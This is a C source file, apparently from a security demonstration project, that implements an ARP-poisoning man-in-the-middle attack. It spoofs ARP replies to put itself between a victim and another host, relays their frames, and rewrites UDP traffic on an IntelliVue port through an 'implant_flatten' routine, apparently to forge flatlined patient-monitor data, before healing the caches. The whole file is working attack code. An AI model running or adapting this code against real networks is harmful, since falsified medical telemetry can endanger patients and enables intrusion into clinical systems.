#include "demo/attacker.h"

#include <net/if.h>
#include <string.h>
#include <unistd.h>

#include "base/clock.h"
#include "demo/frame.h"
#include "demo/implant.h"
#include "demo/intellivue.h"

#define POISON_NS (400 * NSEC_PER_MSEC)

struct spoof {
	const struct attacker *a;
	int sock;
	uint32_t victim, other;
};

/* Tells `to` that `claimed` lives at `mac`. */
static void tell(struct spoof *s, const struct attacker_end *to, uint32_t claimed,
		 const uint8_t mac[6])
{
	uint8_t frame[FRAME_ARP_LEN];

	frame_arp(frame, FRAME_ARP_REPLY, to->mac, mac, claimed, to->mac, frame_ip_of(to->ip));
	/* the frame leaves from our own port, whatever it claims */
	memcpy(frame + 6, s->a->self.mac, 6);
	frame_send(s->sock, frame, sizeof(frame));
}

static void poison(struct spoof *s)
{
	tell(s, &s->a->victim, s->other, s->a->self.mac);
	tell(s, &s->a->other, s->victim, s->a->self.mac);
}

static void heal(struct spoof *s)
{
	for (int i = 0; i < 3; i++) {
		tell(s, &s->a->victim, s->other, s->a->other.mac);
		tell(s, &s->a->other, s->victim, s->a->victim.mac);
		usleep(50000);
	}
}

static void relay(struct spoof *s, uint8_t *frame, size_t len)
{
	struct frame_ip f;

	if (!frame_parse(frame, len, &f) || memcmp(f.dst, s->a->self.mac, 6) != 0)
		return;
	if (f.ip_src == s->victim && f.ip_dst == s->other) {
		if (f.proto == 17 && f.len > 8 && (f.payload[0] << 8 | f.payload[1]) == IVUE_PORT)
			s->a->board->forged += implant_flatten(f.payload + 8, f.len - 8);
		memcpy(f.dst, s->a->other.mac, 6);
	} else if (f.ip_src == s->other && f.ip_dst == s->victim) {
		memcpy(f.dst, s->a->victim.mac, 6);
	} else {
		return;
	}
	memcpy(f.src, s->a->self.mac, 6);
	frame_fix(&f);
	frame_send(s->sock, frame, len);
	s->a->board->relayed++;
}

int attacker_flatline(void *arg)
{
	const struct attacker *a = arg;
	struct spoof s = {a, frame_socket("eth0"), frame_ip_of(a->victim.ip),
			  frame_ip_of(a->other.ip)};
	uint64_t end = clock_mono_ns() + (uint64_t)a->ms * NSEC_PER_MSEC, next = 0;
	uint8_t frame[2048];

	if (s.sock < 0)
		return 1;
	while (clock_mono_ns() < end) {
		ssize_t n;

		if (clock_mono_ns() >= next) {
			poison(&s);
			next = clock_mono_ns() + POISON_NS;
		}
		n = frame_receive(s.sock, frame, sizeof(frame), 50);
		if (n > 0)
			relay(&s, frame, (size_t)n);
	}
	heal(&s);
	return 0;
}
